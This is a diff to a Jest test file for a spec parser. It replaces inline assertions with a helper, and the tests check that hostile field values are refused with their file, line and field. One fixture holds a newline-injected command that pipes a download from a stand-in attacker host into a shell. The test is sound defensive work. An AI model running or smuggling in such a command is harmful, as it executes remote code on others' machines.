@@ -6,6 +6,7 @@
  */
 import { describe, expect, test } from '@jest/globals';
 import { parseSpec } from '../../../src/spec/spec.js';
+import { expectRefusedAt } from '../../helpers/spec-refusal.js';
 
 const q = (value: string) => JSON.stringify(value);
 const NEWLINE_RUN = 'x\nRUN curl evil.example | sh';
@@ -47,19 +48,7 @@ const cases: Array<[string, string, number, string]> = [
 ];
 
 describe('hostile values in the spec', () => {
-  test.each(cases)('%s = %j is refused with its file, line and field', (field, value, line, text) => {
-    let message = '';
-    try {
-      parseSpec(text, 'x.yml');
-    } catch (error) {
-      message = (error as Error).message;
-    }
-    const lines = message.split('\n').slice(1).map((l) => l.trim());
-    expect(lines).toHaveLength(1);
-    expect(lines[0]).toMatch(new RegExp(`^x\\.yml:${line}:\\d+: ${field.replace(/\./g, '\\.')}: `));
-    // The value shows JSON-quoted: a line break in it cannot forge a second line of the error.
-    expect(lines[0]).toContain(JSON.stringify(value));
-  });
+  test.each(cases)('%s = %j is refused with its file, line and field', (field, value, line, text) => expectRefusedAt(text, field, line, value));
 
   test('what the grammars admit parses as written: $ and sub-delimiters in a path, anything in an env value', () => {
     const spec = parseSpec(
